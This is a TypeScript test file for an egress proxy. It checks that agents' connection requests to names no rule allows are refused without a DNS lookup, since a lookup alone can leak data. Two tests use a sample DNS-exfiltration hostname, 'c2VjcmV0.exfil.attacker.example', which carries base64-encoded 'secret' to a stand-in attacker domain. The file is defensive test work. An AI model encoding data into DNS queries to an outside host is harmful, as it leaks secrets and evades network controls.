/**
 * A DNS query is itself a way out: an agent can leak data in the name it asks for. A name no rule allows is
 * refused without being resolved, unless an allow by CIDR could admit this agent on this port (only then
 * does the answer matter).
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { rawExchange, startTestProxy, type TestProxy } from './egress-helpers.js';

describe('egress: no DNS for names that cannot be allowed', () => {
  const queried: string[] = [];
  let proxy: TestProxy;

  before(async () => {
    proxy = await startTestProxy(
      `
network:
  - id: internal-db
    allow: [10.20.0.0/16]
    ports: [5432]
    agents: [bob]
`,
      {
        resolver: async (name: string) => {
          queried.push(name);
          return ['10.20.1.1'];
        },
      },
    );
  });
  after(() => proxy.close());

  const connect = (key: string, host: string, port: number) =>
    rawExchange(proxy.proxy.address.port, `CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${host}:${port}\r\nProxy-Authorization: Bearer ${key}\r\n\r\n`, 1500);

  it('refuses another agent without resolving the name it asked for', async () => {
    queried.length = 0;
    const raw = await connect('key-alice', 'c2VjcmV0.exfil.attacker.example', 5432);
    assert.match(raw, /^HTTP\/1\.1 403/);
    assert.deepEqual(queried, []);
  });

  it('refuses the scoped agent on another port without resolving', async () => {
    queried.length = 0;
    const raw = await connect('key-bob', 'c2VjcmV0.exfil.attacker.example', 443);
    assert.match(raw, /^HTTP\/1\.1 403/);
    assert.deepEqual(queried, []);
  });

  it('resolves for the scoped agent on the rule\'s port, where the CIDR can decide', async () => {
    queried.length = 0;
    await connect('key-bob', 'db.internal.example', 5432);
    assert.deepEqual(queried, ['db.internal.example']);
  });
});
